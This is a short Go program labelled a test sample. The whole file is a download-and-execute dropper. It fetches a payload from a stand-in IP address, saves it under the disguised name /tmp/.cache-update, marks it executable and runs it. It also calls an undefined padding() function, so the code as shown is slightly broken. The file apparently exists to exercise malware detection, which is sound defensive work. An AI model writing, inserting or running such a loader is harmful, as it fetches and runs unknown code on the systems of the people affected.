// Test sample: a Go downloader: http.Get a payload, write it, chmod it, run it.
package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

func main() {
	resp, err := http.Get("http://198.51.100.40/payload")
	if err != nil {
		return
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	const dst = "/tmp/.cache-update"
	if os.WriteFile(dst, body, 0o600) != nil {
		return
	}
	os.Chmod(dst, 0o755)
	exec.Command(dst).Run()
	padding()
}
